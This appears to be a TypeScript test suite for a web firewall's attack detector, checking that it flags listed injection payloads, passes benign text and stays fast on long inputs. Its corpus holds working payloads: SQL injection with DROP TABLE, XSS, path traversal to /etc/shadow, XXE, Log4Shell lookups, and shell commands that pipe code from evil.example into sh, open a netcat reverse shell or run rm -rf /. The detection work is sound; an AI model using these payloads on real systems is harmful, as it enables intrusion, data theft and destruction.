import { attackTypes } from '../../../src/contract/firewall';
import { attackRules } from '../../../src/domain/attack-rules';
import { attackIn, attackInKey, type Place } from '../../../src/domain/attacks';

type Corpus = Readonly<Record<string, readonly string[]>>;

/** In a field of a body as well as in a query. */
const attacks: Corpus = {
  sql_injection: [
    "' OR '1'='1",
    '" or 1=1 --',
    '1 OR 1=1',
    "admin'--",
    "admin' #",
    "admin' /*",
    "x') or ('a'='a",
    '1 UNION SELECT username, password FROM users',
    '1 UNION ALL SELECT null,null,null--',
    '1/**/UNION/**/SELECT/**/1,2,3',
    '1 /*!50000UNION*/ /*!50000SELECT*/ 1,2',
    '1; DROP TABLE users',
    "1';DELETE FROM orders;--",
    "'; EXEC xp_cmdshell('dir'); --",
    "1' AND SLEEP(5) AND 'x'='x",
    '1 and pg_sleep(10)',
    "1); WAITFOR DELAY '0:0:5'--",
    '1 AND extractvalue(1, concat(0x7e, version()))',
    "1 union select 1 into outfile '/var/www/x.php'",
    '%27%20OR%20%271%27%3D%271',
    '%2527%2520OR%25201%253D1',
    '＇ OR ＇1＇=＇1',
    "' or username like '%a",
    "' OR 1 --",
    "1' or exists(select 1 from users)--",
  ],
  nosql_injection: [
    '{"$gt": ""}',
    "{'$ne': null}",
    '{ $where: "this.a == 1" }',
    'user[$ne]=1',
    "'; return true; var x='",
    "'; while(1){}",
    "x' || true //",
  ],
  xss: [
    '<script>alert(1)</script>',
    '<ScRiPt src=//evil.example/x.js>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<body onload="steal()">',
    '<a href="javascript:alert(1)">x</a>',
    'javascript:alert(document.cookie)',
    '<iframe src="https://evil.example">',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '&#60;script&#62;alert(1)',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '＜script＞alert(1)＜/script＞',
    '"><details open ontoggle=alert(1)>',
  ],
  command_injection: [
    '; cat /etc/passwd',
    '| cat /etc/shadow',
    'x && curl http://evil.example/x | sh',
    '$(curl -s evil.example)',
    '$(whoami)',
    '`whoami`',
    '; rm -rf /',
    '| nc -e /bin/sh 10.0.0.1 4444',
    '() { :;}; /bin/bash -c "id"',
    '${jndi:ldap://evil.example/a}',
    '${${lower:j}ndi:ldap://evil.example}',
    '& powershell -enc SQBFAFgA',
    '$(id)',
  ],
  path_traversal: [
    '../../../../etc/passwd',
    '..\\..\\windows\\system32\\config',
    '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
    '..%252f..%252fetc%252fpasswd',
    '..%c0%af..%c0%afetc/passwd',
    '../../secrets.yaml',
    '/var/www/../../etc/shadow',
  ],
  crlf_injection: ['x\r\nSet-Cookie: a=b', '%0d%0aSet-Cookie:%20a=b', 'x%0d%0a%0d%0aHTTP/1.1 200 OK'],
  xml_entity: [
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
    '<!ENTITY % x SYSTEM "http://evil.example/x.dtd">',
    '<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">',
    '<xi:include href="file:///etc/passwd"/>',
  ],
  ldap_injection: ['*)(uid=*))(|(uid=*', 'admin)(|(password=*', '*)(objectClass=*'],
  ssi_injection: [
    '<!--#exec cmd="ls"-->',
    '<!--#include file="x"-->',
    '<esi:include src="http://evil.example"/>',
  ],
};

/** Only where nobody writes prose or code. */
const inLines: Corpus = {
  sql_injection: ['x" or name like "a', "' and 2"],
  command_injection: [
    ';id',
    '|ls',
    '&&env',
    '`wget http://evil.example/x`',
    '; ping -c 10 127.0.0.1',
    '; sleep 10',
  ],
  path_traversal: ['/api/v1/../admin', '/files/..;/x', 'next=../home', '/etc/passwd', 'a%00.png'],
  crlf_injection: ['x%0d%0aX-Injected: 1', 'a%0AHost: evil.example'],
};

const benign = [
  "O'Brien",
  "Rock 'n' Roll, it's the '90s -- and more",
  'select a plan',
  'Toxicity benchmark (2024)',
  'tried after 2 retries; timeout 500 ms',
  'says "free" or words like "win"',
  'tiers "gold" and 2',
  'run `curl https://docs.example/x` or `ls -la` first',
  'Please select a plan from the list; drop me a line',
  'the credit union selected a new board',
  'Either this or that, and 1 or 2 more',
  'black & white; cats & dogs',
  'https://shop.example/p?id=17&ref=mail&q=blue%20shoes#top',
  'https://user.example/a/b/?next=%2Fhome',
  'AT&T | Sales; EMEA',
  'Tom <tom@example.com>',
  'a < b && c > d || e == f',
  "if (kind === 'a' || kind === 'b') { return items.map((i) => i.id); }",
  'const f = async (x: Map<string, number>): Promise<void> => { await sleep(5); };',
  '#include <stdio.h>\nint main(void) { printf("%d\\n", 1); return 0; }',
  "import { a } from '../lib/a';",
  "import x from '../../lib/x';",
  'for (i = 0; i < n; i++) { total += row[i]; }',
  '<Button onClick={() => save()} />',
  '{"key": "value", "n": [1, 2, 3]}',
  '{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/x"}',
  'SGVsbG8gd29ybGQ=',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36',
  '"Chromium";v="126", "Not-A.Brand";v="8"',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW',
  '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
  'First line\r\nSecond line: with a colon\n- a list\n- of things',
  'name;id;age',
  'the `id` field | the `name` field',
  'function (a) { return (a)(b); }',
  'C:\\Users\\ann\\Documents\\report.docx',
  '50% off, 100%25 sure, %s and %d',
  'Müller & Söhne GmbH — “quoted” 你好 😀',
  '=SUM(A1:A9)*2',
  'JavaScript: the good parts',
  '<!DOCTYPE html>',
  '3 + 4 = 7 and 7 = 3 + 4',
  'ann@example.com;bob@example.com',
  '2026-11-22T03:04:05.678Z',
];

const flat = (corpus: Corpus) =>
  Object.entries(corpus).flatMap(([type, texts]) => texts.map((text): [string, string] => [type, text]));

const blocks = (text: string, place: Place): string | null => {
  const attack = attackIn(text, place);
  return attack === null || attack.level === 'medium' ? null : attack.type;
};

describe('The firewall’s rules', () => {
  it.each(flat(attacks))('find %s in %j, wherever it stands [F.5]', (type, text) => {
    expect([blocks(text, 'text'), blocks(text, 'line')]).toEqual([expect.any(String), expect.any(String)]);
    const found = [attackIn(text, 'text')?.type, attackIn(text, 'line')?.type];
    // `; cat /etc/passwd` is two attacks, and either name is right.
    if (!text.includes('etc')) expect(found).toEqual([type, type]);
  });

  it.each(flat(inLines))('find %s in the line %j', (type, text) => {
    expect(blocks(text, 'line')).toBe(type);
    expect(blocks(text, 'text')).toBeNull();
  });

  it.each(benign)('let pass %j as a field', (text) => {
    expect(blocks(text, 'text')).toBeNull();
  });

  it('know the operators of a database among the names of fields, and no others', () => {
    expect(['$where', '$ne', '$regex'].map((key) => attackInKey(key)?.type)).toEqual(
      Array.from({ length: 3 }, () => 'nosql_injection'),
    );
    expect(['$schema', '$ref', '$id', 'where', 'user_id', 'x-y'].map(attackInKey)).toEqual(
      Array.from({ length: 6 }, () => null),
    );
  });

  it('only count what is a statement and no injection', () => {
    expect(attackIn('SELECT name FROM users WHERE id = 7', 'text')).toEqual({
      type: 'sql_injection',
      level: 'medium',
      rule: 'sql_statement',
    });
  });

  it('have each type of the contract, and names of their own', () => {
    expect([...new Set(attackRules.map(({ type }) => type))].toSorted()).toEqual(attackTypes.toSorted());
    expect(new Set(attackRules.map(({ name }) => name)).size).toBe(attackRules.length);
  });

  const seeds = [
    "'",
    "' ",
    '<a ',
    '<a onerror ',
    '; ',
    '../',
    '%2e',
    '%252e',
    '&#60;',
    '/*',
    '/*!',
    'select ',
    'union ',
    '(|(a',
    '${env:',
    '`',
    '$(',
    '\r\n',
    '<!doctype ',
    'a',
    ' ',
    '1=',
    'or 1',
    '\0',
    '＇',
    '{"$',
  ];

  it.each(seeds)('are soon through with much of %j', (seed) => {
    const text = seed.repeat(Math.ceil(200_000 / seed.length));
    const began = performance.now();
    attackIn(`${text}!`, 'text');
    attackIn(`${text}!`, 'line');
    // Milliseconds where time is linear; where it is quadratic, minutes.
    expect(performance.now() - began).toBeLessThan(10_000);
  });
});
